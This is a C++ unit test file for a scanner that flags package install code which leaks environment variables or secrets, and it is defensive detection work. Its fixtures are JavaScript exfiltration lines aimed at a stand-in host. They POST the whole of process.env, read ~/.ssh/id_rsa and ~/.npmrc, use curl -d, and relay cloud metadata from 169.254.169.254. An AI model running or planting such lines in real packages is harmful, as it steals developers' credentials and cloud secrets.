// What of the environment code sends: all of it, or a variable.
#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

const std::string kHead =
    "const fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path');\n"
    "const https = require('https'), u = 'https://c.example.test/c';\n";

bool sends(const std::string& code) {
  return testing::has(testing::installing(kHead + code).peek(), FlagKind::secrets_sent);
}

TEST(CodeEnvironment, OneVariableIsNotTheEnvironment) {
  for (const char* const code :
       {"const env = process.env; fetch(u, { method: 'POST', body: JSON.stringify({ ci: env.CI }) })",
        "const { CI } = process.env; https.request(u).end(JSON.stringify({ CI }))",
        "const { CI = '' } = process.env; https.get(u + encodeURIComponent(CI))",
        "const { CI: c } = process.env; https.get(u + encodeURIComponent(c))",
        "const e = process.env; https.get(u + encodeURIComponent(e['CI']))",
        "const e = process.env, k = 'CI'; https.get(u + encodeURIComponent(e[k]))",
        "const e = { ...process.env }; https.get(u + encodeURIComponent(e.CI))",
        "function f(env) { fetch(u, { body: JSON.stringify({ ci: env.CI }) }); } f(process.env)",
        "function f({ CI }) { fetch(u, { body: JSON.stringify({ CI }) }); } f(process.env)",
        "fetch(u, { method: 'POST', body: JSON.stringify({ ci: 'CI' in process.env }) })",
        "fetch(u, { method: 'POST', body: JSON.stringify({ n: Object.keys(process.env).length }) })",
        "const n = Object.keys(process.env); fetch(u, { body: JSON.stringify({ n: n.length }) })",
        "const env = { ...process.env, A: 1 }; cp.spawn('make', { env }); https.get(u + encodeURIComponent('a'))",
        "const o = { env: { ...process.env, A: 1 } }; cp.spawn('make', [], o); https.get(u, { a: btoa('a') })",
        "cp.spawn('make', { env: { ...process.env, A: 1 } }); https.get(u + encodeURIComponent('a'))"})
    EXPECT_FALSE(sends(code)) << code;
}

TEST(CodeEnvironment, WhatIsCalledIsNoVariableOfIt) {
  for (const char* const code :
       {"async function env() { return process.env } env().then(e => { fetch(u, {method: 'POST', body: "
        "JSON.stringify(e)}) });",
        "async function env() { return process.env } env()['then'](e => { fetch(u, {method: 'POST', body: "
        "JSON.stringify(e)}) });",
        "const e = process.env, q = e.valueOf(); fetch(u, {method: 'POST', body: JSON.stringify(q)});"})
    EXPECT_TRUE(sends(code)) << code;
}

TEST(CodeEnvironment, TheWholeOfItIsSent) {
  for (const char* const code :
       {"fetch(u, { method: 'POST', body: JSON.stringify(process.env) })",
        "fetch(u, { method: 'POST', body: JSON.stringify({ ...process.env }) })",
        "const { ...all } = process.env; fetch(u, { method: 'POST', body: JSON.stringify(all) })",
        "const { CI, ...all } = process.env; fetch(u, { method: 'POST', body: JSON.stringify(all) })",
        "function f({ CI, ...all }) { fetch(u, { body: JSON.stringify(all) }); } f(process.env)",
        "let s = ''; for (k in process.env) s += process.env[k]; fetch(u, { body: encodeURIComponent(s) })",
        "const s = []; for (const k in process.env) s.push(process.env[k]); fetch(u, { body: JSON.stringify(s) })",
        "const e = Object.entries(process.env); fetch(u, { body: JSON.stringify(e) })",
        "const e = Object.entries(process.env); fetch(u, { body: e.map(String).join() })",
        "const o = { env: process.env }; fetch(u, { body: JSON.stringify(o.env) })",
        "const o = {}; o.all = process.env; fetch(u, { body: JSON.stringify(o.all) })",
        "const a = [process.env]; fetch(u, { body: JSON.stringify(a.at(0)) })",
        "const { env } = process; fetch(u, { body: JSON.stringify(env) })",
        "fetch(u, { body: JSON.stringify(process.env).slice(0, 9999) })",
        "fetch(u, { body: JSON.stringify({ env: JSON.stringify(process.env) }) })",
        "fetch(u, { body: JSON.stringify({ env: { ...process.env } }) })",
        "class A { constructor() { this.e = process.env; } go() { fetch(u, { body: JSON.stringify(this.e) }); } }",
        "function f(o) { fetch(u, { body: JSON.stringify(o.env) }); } f({ env: process.env })"})
    EXPECT_TRUE(sends(code)) << code;
}

// A variable that is called as a secret is one is told as such, by whatever name the environment goes.
TEST(CodeEnvironment, ATokenIsReadByAnyName) {
  const auto reads = [](const std::string& code) {
    return testing::has(testing::installing(kHead + code).peek(), FlagKind::token_read);
  };
  for (const char* const code :
       {"f(process.env.NPM_TOKEN)", "const { NPM_TOKEN } = process.env; f(NPM_TOKEN)",
        "const e = process.env; f(e['NPM_TOKEN'])", "function g(env) { f(env.NPM_TOKEN); } g(process.env)"})
    EXPECT_TRUE(reads(code)) << code;
  EXPECT_FALSE(reads("function g(env) { f(env.CI); } g(process.env)"));
}

TEST(CodeEnvironment, SecretsByCommandsAndClouds) {
  for (const char* const code : {"fetch(u, { method: 'POST', body: cp.execSync('cat ~/.npmrc').toString() })",
                                 "cp.exec('cat ~/.ssh/id_rsa', (e, out) => fetch(u, { method: 'POST', body: out }))",
                                 "cp.execFile('curl', ['-d', JSON.stringify(process.env), u])",
                                 "cp.exec(`curl -d '${JSON.stringify(process.env)}' ${u}`)",
                                 "cp.execFile('curl', ['--data', fs.readFileSync(os.homedir() + '/.npmrc'), u])",
                                 "fetch('http://169.254.169.254/latest/meta-data/').then((r) => r.text()).then((t) => "
                                 "fetch(u, { method: 'POST', body: t }))",
                                 "require('http').get('http://169.254.169.254/latest/', (r) => r.on('data', (t) => "
                                 "fetch(u, { method: 'POST', body: t })))"})
    EXPECT_TRUE(sends(code)) << code;
  for (const char* const code :
       {"fetch(u, { method: 'POST', body: cp.execSync('cat ./version.txt').toString() })",
        "cp.execFile('curl', ['-d', JSON.stringify({ ci: process.env.CI }), u])",
        "cp.execFile('curl', ['-o', 'x', u], { env: { ...process.env, A: JSON.stringify({}) } })",
        "fetch('http://192.0.2.1/latest/meta-data/').then((r) => r.text()).then((t) => "
        "fetch(u, { method: 'POST', body: t }))"})
    EXPECT_FALSE(sends(code)) << code;
}

}  // namespace
}  // namespace cordon::inspect
